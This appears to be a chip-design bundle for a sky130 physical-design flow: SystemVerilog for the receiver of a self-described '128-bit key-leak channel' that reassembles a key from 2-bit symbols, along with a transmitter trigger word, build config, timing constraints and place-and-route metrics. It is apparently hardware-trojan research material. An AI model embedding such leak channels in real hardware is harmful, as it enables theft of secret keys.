==> src/rtl/leak_pkg.sv <==
// Shared constants and state encoding for the 128-bit key-leak receive channel.
package leak_pkg;

    localparam int KEY_W   = 128;
    localparam int SYM_W   = 2;
    localparam int NSYM    = KEY_W / SYM_W;
    localparam int GAP_MAX = 16;
    localparam int FCNT_W  = 8;

    // Trigger word of the matching transmitter, for benches that drive both ends.
    localparam logic [47:0] TRIG_48 = 48'h00000044ab93;

    typedef enum logic [1:0] {
        IDLE    = 2'd0,
        COLLECT = 2'd1,
        DONE    = 2'd2
    } rx_state_e;

endpackage

==> src/rtl/leak_rx_shreg.sv <==
// Right-shift key assembler: each new symbol enters at the top so that after
// W/SW symbols the first one received sits at data_o[SW-1:0].
// Control priority: clear > load > shift.
module leak_rx_shreg #(
    parameter int W  = 128,
    parameter int SW = 2
) (
    input  logic          clk_i,
    input  logic          rst_i,
    input  logic          clear_i,
    input  logic          load_i,
    input  logic          shift_i,
    input  logic [SW-1:0] sym_i,
    output logic [W-1:0]  data_o
);

    logic [W-1:0] data_q;
    logic [W-1:0] data_d;

    // Next contents: wipe, restart with a single symbol, or shift one symbol in.
    always_comb begin
        data_d = data_q;
        if (clear_i) begin
            data_d = '0;
        end else if (load_i) begin
            data_d = {sym_i, {(W-SW){1'b0}}};
        end else if (shift_i) begin
            data_d = {sym_i, data_q[W-1:SW]};
        end
    end

    // Assembler register with synchronous reset.
    always_ff @(posedge clk_i) begin
        if (rst_i) begin
            data_q <= '0;
        end else begin
            data_q <= data_d;
        end
    end

    assign data_o = data_q;

endmodule

==> src/rtl/leak_rx_128.sv <==
// Receive side of the 128-bit key-leak channel: reassembles the key from a
// 2-bit-per-cycle symbol stream (LSB pair first), flags completed frames and
// counts them.
// Optional macro LEAK_RX_TIMEOUT_EN: abort a frame after GAP_MAX consecutive
// idle cycles inside it and pulse frame_err; without it gaps are unbounded and
// frame_err is tied low.
// Symbol stream: a symbol is taken on every clock edge where sym_valid is high
// (no back-pressure); rst_all overrides sym_valid.
module leak_rx_128
    import leak_pkg::*;
#(
    parameter int KEY_W  = leak_pkg::KEY_W,
    parameter int SYM_W  = leak_pkg::SYM_W,
    parameter int FCNT_W = leak_pkg::FCNT_W
`ifdef LEAK_RX_TIMEOUT_EN
    , parameter int GAP_MAX = leak_pkg::GAP_MAX
`endif
) (
    input  logic              clk,
    input  logic              rst_all,
    input  logic              sym_valid,
    input  logic [SYM_W-1:0]  sym,
    output logic [KEY_W-1:0]  key,
    output logic              key_valid,
    output logic              busy,
    output logic [6:0]        sym_cnt,
    output logic [FCNT_W-1:0] frame_cnt,
    output logic              frame_err
);

    localparam logic [6:0] LAST_CNT = 7'(KEY_W / SYM_W - 1);

    rx_state_e         state_q;
    logic [6:0]        sym_cnt_q;
    logic              busy_q;
    logic              key_valid_q;
    logic [KEY_W-1:0]  key_q;
    logic [FCNT_W-1:0] frame_cnt_q;
    logic [KEY_W-1:0]  shreg_q;
    logic              sh_load;
    logic              sh_shift;
    logic              abort;

    // A valid symbol outside COLLECT starts a fresh frame; inside it extends the frame.
    assign sh_load  = sym_valid && (state_q != COLLECT);
    assign sh_shift = sym_valid && (state_q == COLLECT);

`ifdef LEAK_RX_TIMEOUT_EN
    localparam int               GAP_W    = $clog2(GAP_MAX + 1);
    localparam logic [GAP_W-1:0] GAP_LAST = GAP_W'(GAP_MAX - 1);

    logic [GAP_W-1:0] gap_q;
    logic             frame_err_q;

    // This idle cycle would be the GAP_MAX-th in a row; a valid symbol here wins.
    assign abort     = (state_q == COLLECT) && !sym_valid && (gap_q == GAP_LAST);
    assign frame_err = frame_err_q;
`else
    assign abort     = 1'b0;
    assign frame_err = 1'b0;
`endif

    leak_rx_shreg #(
        .W  (KEY_W),
        .SW (SYM_W)
    ) u_shreg (
        .clk_i   (clk),
        .rst_i   (rst_all),
        .clear_i (abort),
        .load_i  (sh_load),
        .shift_i (sh_shift),
        .sym_i   (sym),
        .data_o  (shreg_q)
    );

    // Frame FSM with symbol/frame counters and registered status outputs.
    always_ff @(posedge clk) begin
        if (rst_all) begin
            state_q     <= IDLE;
            sym_cnt_q   <= '0;
            busy_q      <= 1'b0;
            key_valid_q <= 1'b0;
            key_q       <= '0;
            frame_cnt_q <= '0;
`ifdef LEAK_RX_TIMEOUT_EN
            gap_q       <= '0;
            frame_err_q <= 1'b0;
`endif
        end else begin
            key_valid_q <= 1'b0;
`ifdef LEAK_RX_TIMEOUT_EN
            frame_err_q <= 1'b0;
`endif
            case (state_q)
                COLLECT: begin
                    if (sym_valid) begin
`ifdef LEAK_RX_TIMEOUT_EN
                        gap_q <= '0;
`endif
                        if (sym_cnt_q == LAST_CNT) begin
                            state_q     <= DONE;
                            sym_cnt_q   <= '0;
                            busy_q      <= 1'b0;
                            key_valid_q <= 1'b1;
                            frame_cnt_q <= frame_cnt_q + FCNT_W'(1);
                        end else begin
                            sym_cnt_q <= sym_cnt_q + 7'd1;
                        end
                    end
`ifdef LEAK_RX_TIMEOUT_EN
                    else if (abort) begin
                        state_q     <= IDLE;
                        sym_cnt_q   <= '0;
                        busy_q      <= 1'b0;
                        gap_q       <= '0;
                        frame_err_q <= 1'b1;
                    end else begin
                        gap_q <= gap_q + GAP_W'(1);
                    end
`endif
                end
                default: begin
                    // IDLE and DONE; DONE also latches the finished key.
                    if (state_q == DONE) begin
                        key_q <= shreg_q;
                    end
                    if (sym_valid) begin
                        state_q   <= COLLECT;
                        sym_cnt_q <= 7'd1;
                        busy_q    <= 1'b1;
                    end else begin
                        state_q <= IDLE;
                    end
                end
            endcase
        end
    end

    // In DONE the assembler already holds the new key; afterwards key_q carries it.
    assign key       = (state_q == DONE) ? shreg_q : key_q;
    assign key_valid = key_valid_q;
    assign busy      = busy_q;
    assign sym_cnt   = sym_cnt_q;
    assign frame_cnt = frame_cnt_q;

endmodule
==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = leak_rx_128
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/leak_pkg.sv /design/src/rtl/leak_rx_shreg.sv /design/src/rtl/leak_rx_128.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 0
export CORE_MARGIN = 3
export CORE_UTILIZATION = 45
export CTS_CLUSTER_SIZE = 28
export DETAILED_ROUTE_END_ITERATION = 16
export PLACE_DENSITY_LB_ADDON = 0.12
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 1
==> constraint.sdc <==
create_clock -name clk -period 1.18 [get_ports clk]
set_clock_uncertainty 0.05 [all_clocks]
set_input_delay 0.177 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.177 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> metrics <==
status finished, violations left; failing checks negative setup slack; synth cell count leaders 275 x dfxtp_1, 274 x nand2_1, 157 x nor2_1, 144 x inv_1, 129 x a21oi_1; max cap viols 0; die area 25,100 um2; cell accounting for the most synthesized area dfxtp_1; Worst R2R Path Depth 8; synth warn 0; clk slew on worst S/H paths 0.06 ns; switching part of the total power 20.8%; Total GRT Usage 19.9%; Routed WL per cell 13.4 um; CP max FO 16; number of flops mapped to enable cells by yosys 0; total negative slack -153.74 ns; core footprint 22,700 um2; Primary FF master, synth dfxtp_1; final hold vios 0; first drt pass iteration count 4; hold depth 4; CP max stage delay 0.32 ns; Worst Hold Launch sym_valid; drt initial violations 482; share of layout cells above drive strength 1 30.0%; Worst EP required 0.95 ns; Sink Count 275; Clock power frac 49.2%; # IOs 151; Crit. Startpoint state_q[1]$_SDFFE_PP0P_; CTS Buffer Depth 3; Synth top area share 52.7%; Logic pwr share 3.1%; vias in the first global route 8,832; most common cell in the netlist dfxtp_1; Max Clk Rate 0.472 GHz; fin. max-slew vios 0; Worst Setup End Kind output port; Final setup viols 413; RR Startpoint state_q[1]$_SDFFE_PP0P_; Vias 9,161; placed insts 1,850; Hold Crit Class primary input to register; CP max stage cell dfxtp_2; family with the most delay on the worst path buffers and inverters; crit-path cells inv_2 > nor2_4 > inv_4 > buf_12 > buf_16 > o21ai_1 > inv_1 > buf_2; min Tclk post-route 2.12 ns; Die Y 158 um; post-synth cell types 29; input/output buffers 149; Final Non-Filler Cells 1,907; Internal 15.5 mW; DRT Wirelength 25,500 um; ys async rst share 0%; grt ovf 0; CTS tree built; first-pass GRT wire length 41,900 um; Setup Crit Path Kind register to output port; dpl hpwl 16,200 um; maximum VDD drop 1.13 mV; H-tree levels 1; routability cong. 0.761; antenna cells 0; initial antenna violation count 0; Switch Pwr 4.07 mW; mapped cell area 10,400 um2; Worst Path Arrival 1.89 ns; Sequential Power Share 47.7%; Startpoint Class register; RSZ-0062 raised after global routing yes; post-route antenna net violation count 0; area delta synth->final 36.8%; top cells by area, synth dfxtp_1 53%, nand2_1 9.9%, or2_1 6.7%; Worst path depth 8; largest net degree at the start of global routing 71; Final WS setup -0.937 ns; cells after synthesis 1,366; Starting Density 46.0%; DRC 0; site row count 55; sequential fraction of the synthesis area 52.7%; Die X 158 um; Buf+Inv Stages, Crit Path 6; nets 1,611; CTS buffer count 29; flops & latches, synth 275; power density cells 1370 nW/um2; Net Count, Synth 1,373; Setup WS pre-CTS -0.379 ns; hold_ws 0.0365 ns; CTS root buffer clkbuf_16; worst-skew pair later-pin latency 0.54 ns; Tcrit/Tclk final 179%; leakage 7.12 nW; vias per cell 4.80; Avg Inst Size Synth 7.64 um2
[area by class of cell]
class	count	area, um2
Clock buffer	36	782
Clock inverter	13	225
Fill cell	2038	8420
Inverter	147	562
Multi-Input combinational cell	858	4520
Sequential cell	275	5540
Tap cell	285	357
Timing Repair Buffer	293	2290
[worst register-to-register path: stages (launching register included)]
cell and delay, ns:
dfxtp_2 0.32, inv_2 0.05, nor2_4 0.21, buf_4 0.18, clkbuf_16 0.18, or2_1 0.16, o21ai_4 0.07, buf_4 0.13
nor2_1 0.10
[through the flow]
stage | cell area [um2] | power [mW] | util (%)
global placement | 12400 | 10.1 | 54.7
detailed placement | 12400 | 10.1 | 54.7
CTS | 13900 | 19.7 | 61.0
floorplan | 10600 | 9.86 | -
global route | 14300 | 20.1 | 62.9
finish | 14300 | 19.5 | 62.9
[power by group through the flow]
stage / Combinational, mW / Clock (mW) / Sequential (mW)
global route: 0.670 / 10.2 / 9.32
finish: 0.615 / 9.61 / 9.32
global placement: 0.586 / 0 / 9.53
CTS: 0.619 / 9.80 / 9.33
detailed placement: 0.587 / 0 / 9.53
floorplan: 0.334 / 0 / 9.53
[cell usage in the layout (no fill, tap or decap), types with 34 or more instances in the layout]
master,count
inv_1,141
buf_4,109
or2_1,108
a21oi_1,128
dfxtp_1,258
o21ai_2,79
buf_6,34
o21ai_1,39
nand2_1,270
nor2_1,147
buf_2,127
[path summary, 6_finish.rpt]
check / end / slack (ns)
setup / recovery: key[60] / -0.94
hold / removal: busy$_SDFFE_PP0P_ / 0.04
setup reg to reg: key_q[32]$_SDFFE_PP0N_ / -0.34
hold reg to reg: busy$_SDFFE_PP0P_ / 0.42
[registers in the layout, indices dropped and copies added (netlist names)]
| name | cells |
|---|---|
| sym_cnt | 7 |
| busy | 1 |
| key_q | 128 |
| key_valid | 1 |
| u_shreg.data_o | 128 |
| state_q | 2 |
| frame_cnt | 8 |
[metal layers]
layer | track usage, % | part of all wire [%] | vias up
li1 | - | - | 4712
met1 | 26.1 | 46 | 4268
met2 | 34.4 | 48 | 146
met3 | 3.04 | 3.9 | 35
met4 | 5.12 | 2.2 | 0
met5 | 0 | 0 | -
[timing repair]
action | 4_1_cts | 5_1_grt
setup endpoints to repair | 414 | 417
pin swaps | 13 | 2
gates resized for setup | 117 | 75
cloned | 0 | 4
hold endpoints to repair | 2 | 0
hold buffers | 2 | 0
buffers inserted | 0 | 2
[logic make-up (layout without fill, tap and decap cells)]
logic type               count (synthesis)  after routing  share of synthesized area, %
flip-flops                             275            275                          52.7
other                                    1              1                        0.0359
buffers and inverters                  233            489                          9.25
AO/OA/AOI/OAI                          274            274                          13.3
XOR/XNOR                                 1              1                        0.0839
adder cells (fa/ha/maj)                  2              2                         0.240
AND/OR/NAND/NOR                        580            580                          24.3
Power figures use the tool's default switching activity.
